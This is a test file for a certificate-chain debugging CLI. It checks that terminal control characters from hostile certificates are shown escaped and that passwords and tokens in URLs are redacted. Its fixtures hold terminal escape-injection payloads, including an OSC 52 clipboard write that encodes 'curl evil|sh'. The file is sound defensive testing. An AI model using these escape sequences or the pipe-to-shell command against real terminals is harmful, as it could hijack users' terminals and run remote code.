/**
 * Issue 17, items 1 and 2: nothing from the wire reaches the terminal raw, and no URL secret is printed.
 *
 * The hostile certificates are made here by the lab generator: a root whose CN retitles the window (OSC 0), clears
 * the screen (CSI 2J), moves the cursor, and carries CR, backspace and U+202E; a leaf whose SAN puts `curl evil|sh`
 * on the clipboard (OSC 52) and whose caIssuers URL holds a password and a token. Every face is run on them
 * (verify, probe against a 127.0.0.1 server, stores, diff, go, the TUI rows, standard error) and its output must
 * hold no control character but newline and the renderer's own colour codes.
 */
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import fc from 'fast-check';
import { render } from 'ink-testing-library';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { run } from '../../src/cli/run.js';
import { memoryIO } from '../../src/cli/io.js';
import { buildPki } from '../../src/pki/index.js';
import { isTerminalSafe, terminalSafe, terminalText, TERMINAL_TEXT_MAX } from '../../src/model/terminal-text.js';
import { redactDeep, redactUrl, redactUrlsIn } from '../../src/model/redact.js';
import { LineRow } from '../../src/tui/components/theme.js';
import { fit, wrapText } from '../../src/tui/format.js';
import { chainServer, type Running } from './tls.js';
import { NOW } from './pki.js';
import { reportOf } from '../support/reports.js';

/** Every character the terminal must never get raw (but "\n", which `allowNewline` keeps). */
// eslint-disable-next-line no-control-regex
const RAW = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]/;
/** Our own styling (report/style.ts): the only escape sequences a text renderer may print. */
// eslint-disable-next-line no-control-regex
const OWN_SGR = /\u001b\[(?:1|2|22|31|32|33|36|39)m/g;
const CONTROLS = [
  ...Array.from({ length: 0x20 }, (_, i) => i),
  ...Array.from({ length: 0x21 }, (_, i) => 0x7f + i),
  0x061c, 0x200e, 0x200f, 0x2028, 0x2029, 0x202a, 0x202b, 0x202c, 0x202d, 0x202e, 0x2066, 0x2067, 0x2068, 0x2069,
].map((c) => String.fromCharCode(c));

const LONE_SURROGATE = /[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/;
const CLIPBOARD = '\u001b]52;c;Y3VybCBldmlsfHNo\u0007a.example';
const TITLE = '\u001b]0;owned\u0007Evil \u001b[2J\u001b[1A\r\b\u202eCA';
const AIA = 'http://user:s3cret@127.0.0.1:9/int.crt?token=t0psecret';

function assertClean(text: string, where: string): void {
  const stripped = text.replace(OWN_SGR, '');
  const bad = RAW.exec(stripped);
  expect(bad, `${where}: raw U+${bad?.[0]?.charCodeAt(0).toString(16).padStart(4, '0')} at ${bad?.index}`).toBeNull();
}

describe('terminalText: the one escaping function', () => {
  it('shows every C0, C1, DEL and bidi control visibly, and nothing raw survives', () => {
    for (const c of CONTROLS) {
      const out = terminalText(`a${c}b`);
      expect(out, `U+${c.charCodeAt(0).toString(16)}`).not.toBe(`a${c}b`);
      expect(RAW.test(out) || out.includes('\n')).toBe(false);
      expect(out).toMatch(/^a\\(x[0-9a-f]{2}|u[0-9a-f]{4})b$/);
    }
    expect(terminalText(TITLE)).toBe('\\x1b]0;owned\\x07Evil \\x1b[2J\\x1b[1A\\x0d\\x08\\u202eCA');
    expect(terminalText('line1\nline2', { newlines: true })).toBe('line1\nline2');
    expect(terminalText('line1\nline2')).toBe('line1\\x0aline2');
  });

  it('property: random strings (and every control spliced in) come out with no control but kept newlines', () => {
    const control = fc.constantFrom(...CONTROLS);
    const piece = fc.oneof(fc.string({ unit: 'binary', maxLength: 40 }), control, fc.constant('\ud800'), fc.constant('\udc00'));
    const text = fc.array(piece, { maxLength: 12 }).map((p) => p.join(''));
    fc.assert(
      fc.property(text, fc.boolean(), (s, newlines) => {
        const out = terminalText(s, { newlines, max: 0 });
        const lines = newlines ? out.split('\n') : [out];
        // lone surrogates too are shown visibly: the output is well-formed UTF-16
        return lines.every((l) => !RAW.test(l) && !l.includes('\n')) && !LONE_SURROGATE.test(out) && isTerminalSafe(out.replace(/\n/g, ''));
      }),
      { numRuns: 2000 },
    );
  });

  it('elides a very long value visibly (text and TUI), and terminalSafe keeps the shape of a model', () => {
    const long = `CN=${'x'.repeat(70_000)}`;
    const out = terminalText(long);
    expect(out.length).toBeLessThanOrEqual(TERMINAL_TEXT_MAX + 40);
    expect(out).toMatch(/…\[\d+ more characters\]…/);
    expect(terminalText('short')).toBe('short');
    const model = { a: [TITLE, 1, null, { b: CLIPBOARD }], n: 3, when: new Date(0) };
    const safe = terminalSafe(model);
    expect(safe.n).toBe(3);
    expect(safe.when).toBe(model.when);
    expect(JSON.stringify(safe)).not.toMatch(/\\u001b|\\u0007/);
  });
});

describe('redactUrl: the one URL redaction', () => {
  it('drops userinfo passwords and secret query values, and keeps the rest byte for byte', () => {
    expect(redactUrl('https://user:s3cret@proxy.corp/')).toBe('https://user@proxy.corp/');
    expect(redactUrl('https://proxy.corp/mod?token=abc&x=1&API_KEY=k#f')).toBe('https://proxy.corp/mod?token=xxxxx&x=1&API_KEY=xxxxx#f');
    expect(redactUrl('https://example.com/a?go-get=1')).toBe('https://example.com/a?go-get=1');
    expect(redactUrl('https://ghp_0123456789abcdefXYZ@github.com/x')).toBe('https://xxxxx@github.com/x');
    expect(redactUrlsIn('GOPROXY=https://u:p@a.example,https://b.example|direct')).toBe('GOPROXY=https://u@a.example,https://b.example|direct');
    expect(redactUrlsIn('sum.golang.org https://u:pw@sum.example/?sig=zz')).toBe('sum.golang.org https://u@sum.example/?sig=xxxxx');
    expect(redactDeep({ list: ['socks5://a:b@h:1'], n: 1 })).toEqual({ list: ['socks5://a@h:1'], n: 1 });
  });
});

describe('hostile certificates through every face', () => {
  let dir = '';
  let server: Running;
  const file = (name: string) => join(dir, name);

  beforeAll(async () => {
    dir = mkdtempSync(join(tmpdir(), 'chaindbg-terminal-'));
    const pki = await buildPki({
      now: NOW,
      nodes: {
        root: { subject: { CN: TITLE, O: 'Evil\u202eCorp' }, ca: true },
        leaf: { subject: { CN: 'leaf\u001b[31m' }, issuer: 'root', sans: [CLIPBOARD, 'localhost'], eku: ['serverAuth'], aiaIssuers: [AIA] },
      },
    });
    writeFileSync(file('leaf.pem'), pki.pem('leaf'));
    writeFileSync(file('root.pem'), pki.pem('root'));
    writeFileSync(file('other.pem'), pki.pem('leaf'));
    server = await chainServer([pki.der('leaf')]);
  });
  afterAll(async () => {
    await server?.close();
    rmSync(dir, { recursive: true, force: true });
  });

  const cli = async (args: string[], env: Record<string, string> = {}) => {
    const io = memoryIO({ cwd: dir, env: { FORCE_COLOR: '1', ...env }, now: () => NOW });
    const code = await run(args, io);
    return { code, out: io.output, err: io.errors };
  };

  it('verify (text, coloured): escaped names and SANs, our colours kept; the AIA password and token never shown', async () => {
    const r = await cli(['verify', 'leaf.pem', '--store', 'root.pem', '--host', 'other.example']);
    assertClean(r.out, 'verify text');
    assertClean(r.err, 'verify stderr');
    // (a DN is shown RFC 4514-escaped, so the OSC's ";" reads "\;")
    expect(r.out).toContain('owned\\x07Evil \\x1b[2J\\x1b[1A\\x0d\\x08\\u202eCA');
    expect(r.out).toContain('\\x1b]52;c;');
    expect(r.out).toMatch(OWN_SGR);
    expect(r.out + r.err).not.toContain('s3cret');
  });

  it('verify --format json keeps strings whole (JSON escapes them) but redacts URL secrets', async () => {
    const r = await cli(['verify', 'leaf.pem', '--store', 'root.pem', '--format', 'json']);
    assertClean(r.out, 'verify json');
    const doc = reportOf(r.out);
    expect(doc.sent[0]!.sans).toContain(CLIPBOARD);
    expect(doc.sent[0]!.issuer).toContain('\u202eCA');
    expect(r.out).toContain('\\u202eCA');
    expect(doc.sent[0]!.aiaIssuers).toEqual(['http://user@127.0.0.1:9/int.crt?token=xxxxx']);
    expect(r.out).not.toContain('s3cret');
    expect(r.out).not.toContain('t0psecret');
  });

  it('probe against a 127.0.0.1 server sending the hostile chain', async () => {
    const r = await cli(['probe', `127.0.0.1:${server.port}`, '--store', 'root.pem', '--host', 'other.example']);
    expect(r.out).toContain('\\x1b]52;c;');
    assertClean(r.out, 'probe text');
    assertClean(r.err, 'probe stderr');
  });

  it('probe --tls both: a target URL with a password and a token is not echoed whole in the same-chain line', async () => {
    const target = `https://user:s3cret@127.0.0.1:${server.port}/?token=t0psecret`;
    const r = await cli(['probe', target, '--tls', 'both', '--store', 'root.pem', '--timeout', '2000']);
    expect(r.out).toContain(`https://user@127.0.0.1:${server.port}/?token=xxxxx: TLS 1.2 and TLS 1.3 sent the same chain`);
    expect(r.out + r.err).not.toContain('s3cret');
    expect(r.out + r.err).not.toContain('t0psecret');
  });

  it('analyze: a capture file whose fields were rewritten with escapes (target, saved error) prints them escaped', async () => {
    const saved = await cli(['probe', `127.0.0.1:${server.port}`, '--store', 'root.pem', '--save', 'hostile.json']);
    expect(saved.code).not.toBe(2);
    const cap = JSON.parse(readFileSync(file('hostile.json'), 'utf8')) as { target: { host: string; servername: string | null } };
    cap.target.host = `evil\u001b]0;t\u0007\u009b2J`;
    cap.target.servername = `sni\u202e\r\b`;
    writeFileSync(file('hostile.json'), JSON.stringify(cap));
    for (const format of ['text', 'json']) {
      const r = await cli(['analyze', 'hostile.json', '--store', 'root.pem', '--format', format]);
      expect(r.code, r.err).not.toBe(70);
      assertClean(r.out, `analyze ${format}`);
      assertClean(r.err, `analyze ${format} stderr`);
      if (format === 'text') expect(r.out).toContain('evil\\x1b]0;t\\x07\\x9b2J');
      else expect(reportOf(r.out).target!.host).toBe(cap.target.host);
    }
  });

  it('stores, diff and diff --for list the hostile names escaped', async () => {
    const s = await cli(['stores', '--store', 'root.pem']);
    assertClean(s.out, 'stores');
    const d = await cli(['diff', '--store', 'root.pem', '--store', 'other.pem']);
    assertClean(d.out, 'diff');
    expect(d.out).toContain('owned\\x07Evil');
    const f = await cli(['diff', '--for', 'leaf.pem', '--store', 'root.pem', '--store', 'other.pem']);
    assertClean(f.out, 'diff --for');
    expect(f.out).toContain('leaf\\x1b[31m');
  });

  it('standard error: a file name with escapes is shown escaped in the one-line error', async () => {
    const r = await cli(['verify', `missing\u001b]0;x\u0007\u202e.pem`]);
    expect(r.code).toBe(2);
    assertClean(r.err, 'stderr');
    expect(r.err).toMatch(/^chaindbg: .*missing\\x1b\]0;x\\x07\\u202e\.pem.*\n$/);
  });

  it('go: GOPROXY and GOSUMDB passwords and tokens are not printed, in text or JSON', async () => {
    const env = {
      PATH: '',
      GOPROXY: `https://user:s3cret@127.0.0.1:${server.port}/?token=t0psecret`,
      GOSUMDB: `sum.golang.org https://u:pw2secret@127.0.0.1:${server.port}/`,
      GOFLAGS: '-mod=mod',
    };
    for (const format of ['text', 'json']) {
      const r = await cli(['go', '--store', 'root.pem', '--timeout', '2000', '--format', format], env);
      for (const secret of ['s3cret', 't0psecret', 'pw2secret']) expect(r.out + r.err, `${format}: ${secret}`).not.toContain(secret);
      expect(r.out).toContain(`https://user@127.0.0.1:${server.port}/?token=xxxxx`);
      assertClean(r.out, `go ${format}`);
    }
  });

  it("a password holding @, ' or , and a proxy written without a scheme are dropped whole (go, probe, stderr)", async () => {
    // The userinfo ends at the last @ of the authority (Go's url.Parse); Go's httpproxy reads user:pass@host as http://.
    expect(redactUrl('https://user:p@ss@proxy.corp/')).toBe('https://user@proxy.corp/');
    expect(redactUrl('user:s3cret@127.0.0.1:9')).toBe('user@127.0.0.1:9');
    expect(redactUrlsIn("GOPROXY=https://u:p'w@a.example,https://v:a,b@b.example|direct")).toBe('GOPROXY=https://u@a.example,https://v@b.example|direct');
    const env = {
      PATH: '',
      GOPROXY: `https://user:p@ss'w0rd@127.0.0.1:${server.port}/`,
      GOSUMDB: `sum.golang.org https://u:a,b@c'secret@127.0.0.1:${server.port}/`,
      GOFLAGS: '-mod=mod',
    };
    for (const format of ['text', 'json']) {
      const r = await cli(['go', '--store', 'root.pem', '--timeout', '2000', '--format', format], env);
      for (const secret of ["ss'w0rd", 'c\'secret', 'a,b@']) expect(r.out + r.err, `go ${format}: ${secret}`).not.toContain(secret);
      expect(r.out).toContain(`https://user@127.0.0.1:${server.port}/`);
    }
    for (const proxy of ['user:s3cret@127.0.0.1:9', 'http://user:p@s3cret@127.0.0.1:9', 'http://user:p@s3cret@bad host:9']) {
      for (const format of ['text', 'json']) {
        const r = await cli(['probe', `127.0.0.1:${server.port}`, '--proxy', proxy, '--timeout', '2000', '--format', format]);
        expect(r.out + r.err, `${proxy} ${format}`).not.toContain('s3cret');
        if (format === 'json') expect(r.out, proxy).toContain('user@');
      }
    }
  });

  it('TUI: every row goes through one escaping (fit, wrapText), so a component never draws a raw string', () => {
    assertClean(fit(`${CLIPBOARD} ${TITLE}`, 200), 'fit');
    for (const row of wrapText(`${TITLE} `.repeat(40), 50)) assertClean(row, 'wrapText');
    expect(wrapText(`CN=${'y'.repeat(70_000)}`, 100).length).toBeLessThan(20);
    const frame = render(<LineRow line={{ text: `SAN ${CLIPBOARD} issuer ${TITLE}` }} width={200} />);
    const out = frame.lastFrame() ?? '';
    frame.unmount();
    assertClean(out, 'LineRow');
    expect(out).toContain('\\x1b]52;c;');
  });

  it('TUI: a URL secret in a row (the AIA line of the details, a failed fetch in a finding) is dropped, as in every other face', () => {
    const frame = render(<LineRow line={{ text: `AIA        ${AIA}` }} width={200} />);
    const out = frame.lastFrame() ?? '';
    frame.unmount();
    expect(out).toContain('http://user@127.0.0.1:9/int.crt?token=xxxxx');
    for (const row of [out, fit(`from ${AIA}`, 200), ...wrapText(`could not fetch the issuer from AIA ${AIA}: refused`, 30)]) {
      expect(row).not.toContain('s3cret');
      expect(row).not.toContain('t0psecret');
    }
  });
});
